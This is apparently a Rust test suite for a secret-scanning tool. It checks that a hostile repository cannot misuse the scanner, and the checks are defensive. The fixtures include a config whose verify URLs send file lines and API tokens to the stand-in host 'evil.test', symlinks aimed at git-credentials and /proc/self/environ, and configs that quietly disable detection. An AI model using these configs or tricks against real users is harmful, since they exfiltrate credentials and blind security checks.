//! The hostile repository: one test for each way a scanned tree was seen to turn ferret
//! against its user (issue "Trust", observations 1 to 10), each failing on the build that
//! had the problem. What ferret promises is in docs/security.md.
use crate::mock_api::{MockApi, Reply};
use crate::util::*;
use serde_json::{json, Value};
use std::path::Path;

fn attio(s: &mut Secrets) -> String {
    s.token(&Secrets::join(&["s", "k_"]), 40)
}

/// A config that tries to send every line of every file to a host of its choosing, with
/// verification turned on, in a rule of its own and in a built-in rule's place.
fn exfiltrating_config() -> String {
    r#"
[verify]
enabled = true
timeout = 600
concurrency = 1

[[rules]]
id = "everything"
description = "every line"
regex = '([ -~]{1,200})'
[rules.verify]
url = "https://evil.test/collect/{{secret}}"

[[rules]]
id = "attio-api-token"
description = "Attio API token"
regex = '''\b(sk_[A-Za-z0-9_]{20,})'''
keywords = ["sk_"]
[rules.verify]
url = "https://evil.test/attio/{{secret}}"
"#
    .to_string()
}

#[test]
fn an_in_tree_config_cannot_send_anything_anywhere() {
    let mut s = Secrets::new("hostile-exfil");
    let key = attio(&mut s);
    let repo = TestRepo::new();
    repo.commit_file("README.md", "hello\n", "first");
    let base = repo.git(&["rev-parse", "HEAD"]);
    repo.write(".ferret.toml", exfiltrating_config());
    repo.write(".env", format!("ATTIO_API_KEY={key}\n"));
    repo.commit_all("add config and key");
    repo.write("staged.env", format!("OTHER={key}\n"));
    repo.git(&["add", "staged.env"]);
    let api = MockApi::start(|_, _| Reply::json(200, json!({"ok": true})));
    let evil = api.redirect("https://evil.test");
    let range = format!("{base}..HEAD");
    for args in [
        vec!["scan", "."],
        vec!["git"],
        vec!["git", "--range", &range],
        vec!["git", "--staged"],
    ] {
        // Without --verify, and with it (the user's own choice): the tree's verify blocks
        // are not used either way.
        for verify in [false, true] {
            let mut all = args.clone();
            all.extend(["--verify-redirect", &evil]);
            if verify {
                all.push("--verify");
            }
            let (code, _, err) = repo.ferret_in(repo.path(), &all);
            assert!(code == 1 || code == 0, "{all:?}: {err}");
            assert_eq!(api.count(), 0, "{all:?} sent a request: {err}");
        }
    }
    let (_, _, err) = repo.ferret_in(repo.path(), &["scan", "."]);
    assert!(err.contains("[verify] table is ignored"), "{err}");
    assert!(err.contains("verify block(s) ignored"), "{err}");
}

#[test]
fn an_in_tree_config_cannot_switch_detection_off_silently() {
    let mut s = Secrets::new("hostile-switch-off");
    let key = attio(&mut s);
    for config in [
        "[extend]\nuse_default = false\n",
        "[allowlist]\npaths = ['.*']\n",
        "[extend]\ndisabled_rules = [\"attio-api-token\"]\n",
    ] {
        let t = Tree::new();
        t.write(".ferret.toml", config);
        t.write(".env", format!("ATTIO_API_KEY={key}\n"));
        let (_, v, err) = scan_json(t.path(), &["--quiet"]);
        assert!(err.contains("ferret: warning:"), "{config}: {err}");
        let warnings = v["config"]["warnings"]
            .as_array()
            .expect("warnings in JSON");
        assert!(!warnings.is_empty(), "{config}: {v}");
        assert_eq!(v["config"]["files"][0]["trusted"], false);
        // SARIF carries it in the run's properties.
        let (_, out, _) = run_in(t.path(), &["scan", ".", "--format", "sarif"]);
        let sarif: Value = serde_json::from_str(&out).unwrap();
        assert!(
            sarif["runs"][0]["properties"]["ferret/config-warnings"].is_array(),
            "{config}: {out}"
        );
    }
}

#[test]
fn a_pull_request_cannot_change_the_rules_that_judge_it() {
    let mut s = Secrets::new("hostile-range-config");
    let key = attio(&mut s);
    let repo = TestRepo::new();
    repo.commit_file("README.md", "hello\n", "first");
    let base = repo.git(&["rev-parse", "HEAD"]);
    repo.write(".ferret.toml", "[extend]\nuse_default = false\n");
    repo.commit_file(
        ".env",
        format!("ATTIO_API_KEY={key}\n"),
        "leak, and turn ferret off",
    );
    // The commit's own fingerprint in .ferretignore does not help either.
    let (_, v, _) = repo.json(&["git", "--range", &format!("{base}..HEAD")]);
    let fp = v["findings"][0]["fingerprint"]
        .as_str()
        .unwrap()
        .to_string();
    repo.commit_file(".ferretignore", format!("{fp}\n"), "ignore it");
    let (code, v, err) = repo.json(&["git", "--range", &format!("{base}..HEAD")]);
    assert_eq!(code, 1, "{err}");
    assert_eq!(v["findings"].as_array().unwrap().len(), 1, "{v}");
    assert!(
        err.contains("the commits under review change .ferret.toml"),
        "{err}"
    );
    assert!(err.contains("change .ferretignore"), "{err}");
}

#[test]
fn control_files_never_read_outside_the_tree() {
    let outside = Tree::new();
    let mut s = Secrets::new("hostile-disclosure");
    let precious = format!("https://user:{}@github.com", s.chars(ALNUM, 30));
    let target = outside.write("git-credentials", format!("{precious}\n"));
    let big = outside.path().join("big.toml");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(2 << 30)
        .unwrap();
    for (name, to) in [
        (".ferretignore", target.as_path()),
        (".ferret.toml", target.as_path()),
        (".ferret.toml", big.as_path()),
        (".gitleaks.toml", Path::new("/proc/self/environ")),
    ] {
        let t = Tree::new();
        t.write("a.txt", "nothing\n");
        std::os::unix::fs::symlink(to, t.path().join(name)).unwrap();
        let (code, out, err) = run_in(t.path(), &["scan", "."]);
        assert_eq!(code, 2, "{name} -> {}: {out}{err}", to.display());
        assert!(err.contains("not read"), "{err}");
        assert!(
            !err.contains(&precious[..20]) && !out.contains(&precious[..20]),
            "{err}"
        );
        assert_eq!(err.trim().lines().count(), 1, "one line: {err}");
    }
}

#[test]
fn snippets_never_show_a_neighbouring_secret() {
    let mut s = Secrets::new("hostile-snippets");
    let (a, b) = (attio(&mut s), attio(&mut s));
    let t = Tree::new();
    t.write("two.env", format!("A={a} B={b}\n"));
    t.write("twice.env", format!("A={a} AGAIN={a}\n"));
    for format in ["json", "jsonl", "sarif", "github", "human"] {
        let (code, out, err) = run_in(t.path(), &["scan", ".", "--format", format]);
        assert_eq!(code, 1, "{err}");
        for secret in [&a, &b] {
            assert!(
                !out.contains(&secret[6..]),
                "{format} shows a secret: {out}"
            );
        }
    }
}

#[test]
fn errors_and_answers_never_quote_a_secret() {
    let mut s = Secrets::new("hostile-errors");
    let key = attio(&mut s);
    let t = Tree::new();
    t.write("a.txt", "nothing\n");
    let configs = [
        format!("[allowlist]\nregexes = ['{key}(']\n"),
        format!("[[rules]]\ndescription = \"{key}\"\nregex = '{key}'\n"),
        format!("[verify]\nfail_on = \"{key}\"\n"),
        format!("[[rules]]\nid = \"{key}\"\ndescription = \"x\"\nregex = 'x('\n"),
        format!(
            "[[rules]]\nid = \"x-token\"\ndescription = \"x\"\nregex = 'xtok_[a-z]{{8}}'\n\
             [rules.verify]\nurl = \"http://{key}.test/\"\n"
        ),
        format!("title = \"x\"\nseverity = \"{key}\"\n"),
        format!("[[rules]]\nid = \"r\"\ndescription = \"x\"\nregex = 'x'\nseverity = \"{key}\"\n"),
    ];
    for (i, config) in configs.iter().enumerate() {
        let file = t.write(&format!("config{i}.toml"), config);
        let (code, out, err) = run_in(
            t.path(),
            &["scan", "a.txt", "--config", file.to_str().unwrap()],
        );
        assert_eq!(code, 2, "config {i}: {out}{err}");
        assert!(
            !err.contains(&key[8..]),
            "config {i} quoted in the error: {err}"
        );
    }
    // A service that echoes the key back: the report does not print it.
    t.write(".env", format!("ATTIO_API_KEY={key}\n"));
    let echoed = key.clone();
    let api = MockApi::start(move |_, _| {
        Reply::json(
            200,
            json!({"active": true, "scope": echoed, "workspace_name": echoed,
                   "workspace_id": format!("id {echoed}")}),
        )
    });
    let redirect = api.redirect("https://api.attio.com");
    for format in ["json", "human", "sarif"] {
        let (_, out, err) = run_in(
            t.path(),
            &[
                "scan",
                ".env",
                "--verify",
                "--verify-redirect",
                &redirect,
                "-f",
                format,
            ],
        );
        assert!(api.count() > 0, "{err}");
        assert!(!out.contains(&key[8..]), "{format}: {out}");
    }
}

#[test]
fn fingerprints_do_not_give_a_weak_secret_away() {
    let password = ["Winter", "2024!x"].concat();
    let t = Tree::new();
    t.write("db.env", format!("DB_PASSWORD={password}\n"));
    let (code, v, _) = scan_json(t.path(), &[]);
    assert_eq!(code, 1);
    let f = &v["findings"][0];
    let fp = f["fingerprint"].as_str().unwrap();
    // The fingerprint 0.1 wrote, which a dictionary recovered in under a second.
    let old = ferret_engine::finding::legacy_fingerprint(
        f["rule_id"].as_str().unwrap(),
        &password,
        "db.env",
    );
    assert_ne!(fp, old);
    assert_eq!(f["secret"], "…", "a password shows none of itself");
    assert!(!f["snippet"].as_str().unwrap().contains("Winter"));
    // Keyed: another value, the same on every run with the same key.
    let keyed = |key: &str| {
        let (_, out, _) = outcome(
            ferret()
                .current_dir(t.path())
                .env("FERRET_FINGERPRINT_KEY", key)
                .args(["scan", ".", "-f", "json"]),
        );
        let v: Value = serde_json::from_str(&out).unwrap();
        v["findings"][0]["fingerprint"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let k1 = keyed("an organisation key of some length");
    assert_ne!(k1, fp);
    assert_eq!(k1, keyed("an organisation key of some length"));
    assert_ne!(k1, keyed("another organisation key, longer"));
}

/// `text` as UTF-16, little-endian, with or without a mark.
fn utf16(text: &str, mark: bool) -> Vec<u8> {
    let mut out = if mark { vec![0xFF, 0xFE] } else { Vec::new() };
    for u in text.encode_utf16() {
        out.extend_from_slice(&u.to_le_bytes());
    }
    out
}

#[test]
fn two_bytes_hide_nothing() {
    let mut s = Secrets::new("hostile-bom");
    let key = attio(&mut s);
    let line = format!("ATTIO_API_KEY={key}\n");
    let variants: [(&str, Vec<u8>); 4] = [
        ("fake-le.env", [&[0xFF, 0xFE][..], line.as_bytes()].concat()),
        ("fake-be.env", [&[0xFE, 0xFF][..], line.as_bytes()].concat()),
        ("real.env", utf16(&line, true)),
        ("unmarked.env", utf16(&line, false)),
    ];
    let repo = TestRepo::new();
    repo.commit_file("README.md", "hi\n", "first");
    for (name, bytes) in &variants {
        repo.write(name, bytes);
    }
    let (code, v, _) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let mut paths: Vec<String> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect();
    paths.sort();
    assert_eq!(
        paths,
        ["fake-be.env", "fake-le.env", "real.env", "unmarked.env"]
    );
    repo.git(&["add", "-A"]);
    let (code, v, _) = repo.json(&["git", "--staged"]);
    assert_eq!(code, 1);
    assert_eq!(v["findings"].as_array().unwrap().len(), 4, "{v}");
    repo.git(&["commit", "-q", "-m", "add"]);
    let (_, v, _) = repo.json(&["git"]);
    assert_eq!(v["findings"].as_array().unwrap().len(), 4, "{v}");
}

#[test]
fn resources_stay_bounded() {
    let t = Tree::new();
    let config = t.write(
        "all.toml",
        "[[rules]]\nid = \"all\"\ndescription = \"x\"\nregex = '(.)'\n",
    );
    t.write("big.txt", "a".repeat(1 << 20));
    let (code, out, err) = run_in(
        t.path(),
        &[
            "scan",
            "big.txt",
            "-f",
            "json",
            "--config",
            config.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 1);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert!(
        v["findings"].as_array().unwrap().len() <= 1000,
        "findings are capped"
    );
    assert!(
        err.contains("more than 1000 findings") || err.contains("matching stopped"),
        "{err}"
    );
    // A regex that the regex crate runs at kilobytes a second on a long line is given up.
    let slow = t.write(
        "slow.toml",
        "[[rules]]\nid = \"slow\"\ndescription = \"x\"\nregex = '(?:[a-z]{1,100}){1,100}x'\nkeywords = [\"x\"]\n",
    );
    t.write(
        "long.txt",
        format!("x = {}\n", "abcdefghij".repeat(100_000)),
    );
    let (_, _, err) = run_in(
        t.path(),
        &["scan", "long.txt", "--config", slow.to_str().unwrap()],
    );
    assert!(err.contains("rule slow skipped here"), "{err}");
    // Flags with no sane meaning are refused; a huge -j is clamped.
    for bad in [["--exit-code", "256"], ["--max-file-size", "0"]] {
        let (code, _, err) = run_in(t.path(), &["scan", "a", bad[0], bad[1]]);
        assert_eq!(code, 2, "{bad:?}: {err}");
    }
    let (_, _, err) = run_in(t.path(), &["scan", "big.txt", "-j", "5000"]);
    assert!(err.contains("-j 5000: using"), "{err}");
    // stdin larger than --max-file-size is skipped, with a note, not held in memory.
    let (code, _, err) = outcome(
        ferret()
            .current_dir(t.path())
            .args(["scan", "-", "--max-file-size", "1K"])
            .write_stdin("b".repeat(4096)),
    );
    assert_eq!(code, 0);
    assert!(err.contains("<stdin>: skipped, larger than"), "{err}");
}

/// Runs ferret with a watchdog: a hang fails the test instead of blocking the suite.
fn run_bounded(dir: &Path, args: &[&str]) -> (i32, String, String) {
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("ferret"))
        .current_dir(dir)
        .args(args)
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        if let Some(_status) = child.try_wait().unwrap() {
            let out = child.wait_with_output().unwrap();
            return (
                out.status.code().unwrap_or(-1),
                String::from_utf8_lossy(&out.stdout).into_owned(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            );
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("ferret {args:?} hung (killed after 60 s)");
        }
        std::thread::yield_now();
    }
}

fn mkfifo(path: &Path) {
    let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo with a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
}

#[test]
fn no_open_ever_blocks() {
    let repo = TestRepo::new();
    repo.commit_file(".env", "A=1\n", "tracked env");
    std::fs::remove_file(repo.path().join(".env")).unwrap();
    mkfifo(&repo.path().join(".env"));
    mkfifo(&repo.path().join("pipe"));
    for args in [&["audit"][..], &["git", "--hygiene"], &["scan", "."]] {
        let (code, out, err) = run_bounded(repo.path(), args);
        assert!(code <= 2, "{args:?}: {out}{err}");
    }
    let (_, out, _) = run_bounded(repo.path(), &["scan", "."]);
    assert!(out.contains("not regular files"), "{out}");
    // A pipe named on the command line is read like stdin.
    let mut s = Secrets::new("hostile-fifo");
    let key = attio(&mut s);
    let fifo = repo.path().join("named");
    mkfifo(&fifo);
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::write(fifo, format!("ATTIO_API_KEY={key}\n")).unwrap())
    };
    let (code, out, err) = run_bounded(repo.path(), &["scan", "named", "-f", "json"]);
    writer.join().unwrap();
    assert_eq!(code, 1, "{err}");
    assert!(out.contains("attio-api-token"), "{out}");
}

#[test]
fn walk_errors_name_the_place_that_failed() {
    use std::os::unix::fs::PermissionsExt;
    let t = Tree::new();
    t.write("deep/a.txt", "x\n");
    std::os::unix::fs::symlink("..", t.path().join("deep/loop")).unwrap();
    let (code, _, err) = run_in(t.path(), &["scan", ".", "-L"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("deep/loop"), "{err}");
    // An unreadable directory is named, not the scan's root. Root reads everything, so
    // as root ferret runs as `nobody` (setpriv, util-linux).
    t.write("ok/a.txt", "x\n");
    t.write("locked/b.txt", "y\n");
    let mode = |p: &Path, m: u32| std::fs::set_permissions(p, std::fs::Permissions::from_mode(m));
    mode(t.path(), 0o755).unwrap();
    mode(&t.path().join("ok"), 0o755).unwrap();
    mode(&t.path().join("locked"), 0o000).unwrap();
    let bin = assert_cmd::cargo::cargo_bin("ferret");
    let mut cmd = if unsafe { libc::geteuid() } == 0 {
        let mut c = std::process::Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(&bin);
        c
    } else {
        std::process::Command::new(&bin)
    };
    let out = cmd
        .current_dir(t.path())
        .args(["scan", "."])
        .env("FERRET_CONFIG", "")
        .output()
        .expect("run ferret (setpriv comes with util-linux)");
    mode(&t.path().join("locked"), 0o755).unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("./locked: Permission denied"), "{err}");
}
